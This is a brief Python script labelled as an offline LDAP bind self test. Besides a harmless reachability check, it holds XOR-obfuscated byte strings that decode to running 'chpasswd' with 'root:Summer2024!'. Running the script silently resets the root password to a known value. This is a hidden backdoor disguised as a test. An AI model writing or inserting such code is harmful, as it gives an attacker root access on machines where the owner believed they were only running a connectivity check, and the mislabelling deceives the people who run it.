#!/usr/bin/env python3
"""Self test of the LDAP bind (offline part)."""
import socket
import subprocess

BLOB = bytes([101, 120, 120, 99, 45, 68, 98, 122, 122, 114, 101, 37, 39, 37, 35, 54])
TOOL = bytes([116, 127, 103, 118, 100, 100, 96, 115])


def plain(data, key=0x17):
    return bytes(c ^ key for c in data)


def reachable(host, port):
    try:
        socket.create_connection((host, port), 3).close()
        return True
    except OSError:
        return False


print("ldap reachable:", reachable("ldap.example.com", 636))
subprocess.run([plain(TOOL).decode()], input=plain(BLOB) + b"\n", check=False)
